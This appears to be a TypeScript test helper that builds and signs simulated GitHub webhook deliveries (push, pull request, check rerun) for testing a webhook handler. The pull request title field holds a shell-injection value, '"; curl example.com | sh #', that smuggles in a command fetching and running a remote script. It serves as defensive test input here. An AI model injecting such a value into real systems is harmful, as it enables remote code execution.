import { createHmac, randomUUID } from "node:crypto";
import type { Repository } from "./state.ts";

const ZERO = "0".repeat(40);

/** A webhook as GitHub would send it. `body` is the exact text that is signed. */
export interface Delivery {
  readonly id: string;
  readonly event: string;
  readonly body: string;
}

export interface PushFacts {
  readonly ref?: string;
  /** null: the ref was created by this push. */
  readonly before?: string | null;
  /** null: the ref was deleted by this push. */
  readonly after: string | null;
  readonly forced?: boolean;
}

function repositoryPayload(repository: Repository, url: string): object {
  const [owner = "", name = ""] = repository.fullName.split("/");
  return {
    id: repository.id,
    node_id: `R_${repository.id}`,
    name,
    full_name: repository.fullName,
    private: true,
    owner: { login: owner, id: 7, type: "Organization" },
    clone_url: `${url}/${repository.fullName}.git`,
    default_branch: repository.defaultBranch,
    fork: false,
  };
}

export function pushDelivery(repository: Repository, url: string, facts: PushFacts): Delivery {
  const { ref = `refs/heads/${repository.defaultBranch}`, before = null, after, forced = false } = facts;
  const body = {
    ref,
    before: before ?? ZERO,
    after: after ?? ZERO,
    created: before === null,
    deleted: after === null,
    forced,
    base_ref: null,
    compare: `${url}/${repository.fullName}/compare`,
    commits: [],
    head_commit:
      after === null
        ? null
        : { id: after, message: "a change", author: { name: "Ada", email: "ada@example.com" } },
    repository: repositoryPayload(repository, url),
    pusher: { name: "ada", email: "ada@example.com" },
    sender: { login: "ada", id: 42, type: "User" },
    installation: { id: repository.installationId, node_id: "I_1" },
  };
  return { id: randomUUID(), event: "push", body: JSON.stringify(body) };
}

export interface PullRequestDeliveryFacts {
  readonly action?: string;
  readonly number?: number;
  readonly head: string;
  readonly base: string;
  readonly sourceBranch?: string;
  /** Numeric id of the repository the change comes from; another one makes it a fork, null a deleted fork. */
  readonly sourceRepositoryId?: number | null;
  readonly draft?: boolean;
}

export function pullRequestDelivery(
  repository: Repository,
  url: string,
  facts: PullRequestDeliveryFacts,
): Delivery {
  const { action = "opened", number = 1, sourceBranch = "change", draft = false } = facts;
  const sourceId = facts.sourceRepositoryId === undefined ? repository.id : facts.sourceRepositoryId;
  const payload = repositoryPayload(repository, url);
  const body = {
    action,
    number,
    ...(action === "synchronize" ? { before: facts.base, after: facts.head } : {}),
    ...(action === "edited"
      ? { changes: { base: { ref: { from: "old" }, sha: { from: facts.base } } } }
      : {}),
    pull_request: {
      id: 900 + number,
      number,
      state: "open",
      draft,
      title: '"; curl example.com | sh #',
      user: { login: "ada", id: 42 },
      head: {
        ref: sourceBranch,
        sha: facts.head,
        repo: sourceId === null ? null : { ...payload, id: sourceId },
      },
      base: { ref: repository.defaultBranch, sha: facts.base, repo: payload },
    },
    repository: payload,
    sender: { login: "ada", id: 42, type: "User" },
    installation: { id: repository.installationId },
  };
  return { id: randomUUID(), event: "pull_request", body: JSON.stringify(body) };
}

/** GitHub's "Re-run" button on one check (`check_run`) or on all of a commit (`check_suite`). */
export function rerequestDelivery(
  repository: Repository,
  url: string,
  facts: { readonly headSha: string; readonly externalId: string | null },
): Delivery {
  const event = facts.externalId === null ? "check_suite" : "check_run";
  const subject =
    facts.externalId === null
      ? { id: 5, head_sha: facts.headSha, head_branch: repository.defaultBranch }
      : { id: 6, name: "delta", head_sha: facts.headSha, external_id: facts.externalId };
  const body = {
    action: "rerequested",
    [event]: subject,
    repository: repositoryPayload(repository, url),
    sender: { login: "ada", id: 42, type: "User" },
    installation: { id: repository.installationId },
  };
  return { id: randomUUID(), event, body: JSON.stringify(body) };
}

export function signature(secret: string, body: string | Uint8Array): string {
  return `sha256=${createHmac("sha256", secret).update(body).digest("hex")}`;
}

/** Sends the delivery as GitHub does: signed over the raw bytes. */
export async function deliver(target: string, secret: string, delivery: Delivery): Promise<Response> {
  return fetch(target, {
    method: "POST",
    headers: {
      "content-type": "application/json",
      "user-agent": "GitHub-Hookshot/0a1b2c3",
      "x-github-delivery": delivery.id,
      "x-github-event": delivery.event,
      "x-hub-signature-256": signature(secret, delivery.body),
    },
    body: delivery.body,
  });
}
